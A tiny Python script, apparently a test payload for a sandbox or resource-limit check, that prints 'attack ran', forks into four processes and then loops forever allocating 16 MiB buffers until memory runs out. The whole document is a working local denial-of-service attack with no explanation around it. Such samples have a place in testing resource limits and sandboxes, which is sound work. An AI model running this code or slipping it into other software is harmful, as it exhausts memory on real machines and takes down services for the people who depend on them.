import os

print("attack ran", flush=True)
os.fork()
os.fork()
hoard = []
while True:
    hoard.append(bytearray(os.urandom(1) * (16 << 20)))
